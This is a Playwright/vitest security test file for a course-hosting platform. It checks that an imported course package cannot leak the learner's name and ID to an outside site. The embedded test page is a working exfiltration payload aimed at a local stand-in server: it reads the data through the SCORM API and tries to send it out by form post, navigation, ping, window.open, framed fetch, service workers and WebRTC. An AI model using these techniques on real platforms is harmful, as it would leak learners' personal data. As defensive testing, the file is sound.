import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { z } from 'zod';
import { executablePath, launchArguments, profile, signedIn } from './browser.ts';
import { importPage, openCourse } from './packages.ts';
import { setUp } from './setup.ts';

const on = setUp({});

/** Requests and packets that reached a site which no editor has allowed. */
const reached: string[] = [];
const site = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`);
  response.setHeader('access-control-allow-origin', '*');
  response.end('a page of another site');
});
const stun = createSocket('udp4', () => reached.push('a packet'));
let elsewhere = '';
beforeAll(async () => {
  site.listen(0, '127.0.0.1');
  stun.bind(0, '127.0.0.1');
  await Promise.all([once(site, 'listening'), once(stun, 'listening')]);
  const address = site.address();
  elsewhere = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
});
afterAll(async () => {
  stun.close();
  site.closeAllConnections();
  await new Promise((closed) => site.close(closed));
});
beforeEach(() => void reached.splice(0));

/** A package that knows who learns, and tries to tell another site without a press; each outcome is in its page. */
const attack = () => `<!doctype html><title>A friendly course</title><pre id="said"></pre>
<link rel="prefetch" href="${elsewhere}/prefetch">
<button id="form">Form</button> <button id="top">Top</button> <button id="ping">Ping</button> <button id="window">Window</button>
<script>
const API = parent.API;
API.LMSInitialize('');
const who = '?name=' + API.LMSGetValue('cmi.core.student_name') + '&id=' + API.LMSGetValue('cmi.core.student_id');
const said = { who };
const attempt = async (name, act) => {
  try { said[name] = String(await act()); } catch (error) { said[name] = 'refused'; }
};
const framed = (address) => new Promise((loaded) => {
  const frame = document.createElement('iframe');
  frame.onload = () => loaded(frame);
  frame.src = address;
  document.body.append(frame);
});
const answered = (worker) => new Promise((heard, failed) => { worker.onmessage = heard; worker.onerror = failed; });
document.getElementById('form').onclick = () => {
  document.body.insertAdjacentHTML('beforeend', '<form method="post" target="_blank" action="${elsewhere}/form' + who + '"></form>');
  document.body.lastElementChild.submit();
};
document.getElementById('top').onclick = () => { top.location = '${elsewhere}/top' + who; };
document.getElementById('ping').onclick = () => {
  document.body.insertAdjacentHTML('beforeend', '<a href="#" ping="${elsewhere}/ping' + who + '">x</a>');
  document.body.lastElementChild.click();
};
// From a frame so new that the player has not reached its window.open.
document.getElementById('window').onclick = () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  frame.contentWindow.open('${elsewhere}/window' + who);
};
(async () => {
  await attempt('a service worker', () => navigator.serviceWorker.register('worker.js'));
  await attempt('a worker', () => answered(new Worker('worker.js')).then(() => 'works'));
  await attempt('data of its own', () => fetch('data:text/plain,works').then((answer) => answer.text()));
  await attempt('an answer without a policy', async () => {
    const frame = await framed('/c/' + 'a'.repeat(30000));
    return (await frame.contentWindow.fetch('${elsewhere}/unlimited' + who)).status;
  });
  document.getElementById('said').textContent = JSON.stringify(said);
})();
</script>`;

/** The frame that runs the package's page. */
const frameOf = (page: Page): Frame | undefined =>
  page.frames().find((frame) => frame.url().includes('/c/') && frame.url().endsWith('index.html'));

test('a package reaches no other site, with or without a press, and knows no more of its learner than it should', async () => {
  const learner = await on.records.learner();
  const folder = await mkdtemp(join(tmpdir(), 'readytowork-reach-'));
  // Unlike a test's usual profile, this one lets frames of other sites store data and register service workers.
  const context = await chromium.launchPersistentContext(folder, {
    executablePath,
    args: launchArguments,
    baseURL: on.product.url,
  });
  const page = await context.newPage();
  await signedIn(page, learner.email);
  await importPage(on.product, 'reaching', attack(), { 'worker.js': 'self.postMessage?.("")' });
  const course = await openCourse(page, 'reaching');
  const said = course.locator('#said');
  await expect.poll(() => said.textContent(), { timeout: 20_000 }).not.toBe('');
  const outcome = z.record(z.string(), z.string()).parse(JSON.parse((await said.textContent()) ?? ''));
  expect(outcome).toEqual({
    who: expect.stringMatching(/^\?name=, \w+&id=[0-9a-f]{32}$/),
    'a service worker': 'refused',
    'a worker': 'works',
    'data of its own': 'works',
    'an answer without a policy': 'refused',
  });
  for (const press of ['form', 'top', 'ping']) await course.locator(`#${press}`).click();
  const opened = context.waitForEvent('page');
  await course.locator('#window').click();
  const popup = await opened;
  // Chromium shows its own page instead, at another address.
  const isSettled = () => popup.isClosed() || !['', ':', 'about:blank'].includes(popup.url());
  await expect.poll(isSettled, { timeout: 20_000 }).toBe(true);
  expect(reached).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/my-learning/reaching');
  await context.close();
  await rm(folder, { recursive: true });
});

test('a package opens no WebRTC connection', async () => {
  const learner = await on.records.learner();
  const { page, context } = await profile(on.browser, on.product.url);
  await signedIn(page, learner.email);
  await importPage(on.product, 'calling', '<!doctype html><title>A course</title><h1>Hello</h1>');
  await (await openCourse(page, 'calling')).getByRole('heading', { name: 'Hello' }).waitFor();
  const outcome = await frameOf(page)
    ?.evaluate(async (urls) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
      connection.createDataChannel('out');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise<void>((done) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && done();
      });
      return 'gathered';
    }, `stun:127.0.0.1:${stun.address().port}`)
    // Chromium 156 ends the process of the frame.
    .catch(() => 'refused');
  expect(outcome).toBe('refused');
  expect(reached).toEqual([]);
  await context.close();
});
